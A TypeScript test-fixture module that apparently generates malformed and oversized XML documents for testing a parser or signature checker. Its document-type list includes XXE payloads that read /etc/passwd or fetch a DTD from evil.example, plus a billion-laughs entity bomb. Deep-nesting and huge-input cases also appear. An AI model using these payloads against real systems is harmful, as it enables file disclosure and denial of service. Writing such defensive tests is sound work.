/** Texts that are not well-formed documents, or that only some parsers accept. */

export function listDocumentTypes(): string[] {
  const entities = Array.from(
    { length: 9 },
    (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`,
  ).join('')
  return [
    '<!DOCTYPE x>',
    '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
    '<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "https://evil.example/x.dtd">',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example/x.dtd"> %e;]>',
    `<!DOCTYPE x [<!ENTITY e0 "lol">${entities}]>`,
    `<!DOCTYPE x [<!ENTITY e "${'x'.repeat(10_000)}">]>`,
    '<!DOCTYPE x [<!ATTLIST x ID ID #IMPLIED>]>',
    '<?xml version="1.0"?><!DOCTYPE x>',
    ' <!DOCTYPE x>',
    '<!doctype x>',
  ]
}

/** The same document with one error each, by the name of the error. */
export function listBroken(xml: string): Record<string, string> {
  const end = xml.lastIndexOf('</')
  const inside = (text: string) => xml.slice(0, end) + text + xml.slice(end)
  return {
    'two roots': xml + xml,
    'an empty second root': `${xml}<x/>`,
    'a first root': `<x/>${xml}`,
    'text behind': `${xml}x`,
    'text before': `x${xml}`,
    nothing: '',
    'only white space': ' \n',
    'no end': xml.slice(0, end),
    'half of it': xml.slice(0, xml.length / 2),
    'another end': `${xml.slice(0, end)}</x>`,
    'an entity': inside('&x;'),
    'an entity of HTML': inside('&nbsp;'),
    'an ampersand': inside('&'),
    'half a reference': inside('&amp'),
    'a reference to nothing': inside('&;'),
    'a control character': inside('\u0001'),
    'a control character by reference': inside('&#1;'),
    'NUL by reference': inside('&#0;'),
    'half a surrogate by reference': inside('&#xD800;'),
    'a reference too large': inside('&#x110000;'),
    'a reference with a sign': inside('&#-1;'),
    'a reference of letters': inside('&#xZZ;'),
    'the end of a section': inside(']]>'),
    'a prefix of nobody': inside('<evil:x/>'),
    'an attribute of nobody': inside('<x evil:y="1"/>'),
    'an attribute twice': inside('<x y="1" y="2"/>'),
    'an attribute twice by two prefixes': inside(
      '<x xmlns:a="urn:a" xmlns:b="urn:a" a:y="1" b:y="2"/>',
    ),
    'an attribute without quotes': inside('<x y=1/>'),
    'an attribute without a value': inside('<x y/>'),
    'an attribute with a bracket': inside('<x y="<"/>'),
    'another prefix xml': inside('<x xmlns:xml="urn:evil"/>'),
    'another name of the namespace of xml': inside(
      '<x xmlns:y="http://www.w3.org/XML/1998/namespace"/>',
    ),
    'a prefix xmlns': inside('<x xmlns:xmlns="urn:evil"/>'),
    'a prefix taken back': inside('<x xmlns:ds=""/>'),
    'a namespace in other letters': inside('<x xmlns:y="urn:\u00e9vil"/>'),
    'a name in other letters': inside('<\u00e9/>'),
    'a name that begins with a digit': inside('<1x/>'),
    'a name with two colons': inside('<ds:x:y/>'),
    'a space before the name': inside('< x/>'),
    'a slash in the tag': inside('<x / >'),
    'a declaration later': inside('<?xml version="1.0"?>'),
    'a declaration of another version': `<?xml version="1.1"?>${xml}`,
    'a declaration of another encoding': `<?xml version="1.0" encoding="UTF-16"?>${xml}`,
    'a declaration of another encoding, UTF-7': `<?xml version="1.0" encoding="UTF-7"?>${xml}`,
    'elements deep in one another': inside('<x>'.repeat(2000) + '</x>'.repeat(2000)),
    'elements without an end': inside('<x>'.repeat(2000)),
    'many namespaces': inside(
      `<x ${Array.from({ length: 500 }, (_, at) => `xmlns:n${at}="urn:${at}"`).join(' ')}/>`,
    ),
    'many spaces': inside(`<x${' '.repeat(50_000)}`),
    'many brackets': inside('<'.repeat(50_000)),
    'many quotes': inside(`<x y=${'"'.repeat(50_000)}`),
  }
}

/** Well-formed, with much in it that nobody has signed. */
export function listLarge(xml: string): Record<string, string> {
  const end = xml.lastIndexOf('</')
  const inside = (text: string) => xml.slice(0, end) + text + xml.slice(end)
  return {
    'many attributes': inside(
      `<x ${Array.from({ length: 2000 }, (_, at) => `a${at}="${at}"`).join(' ')}/>`,
    ),
    'many elements': inside('<x/>'.repeat(10_000)),
    'much text': inside('x'.repeat(60_000)),
    'too much text': inside('x'.repeat(600_000)),
    'many references': inside('&amp;'.repeat(10_000)),
  }
}
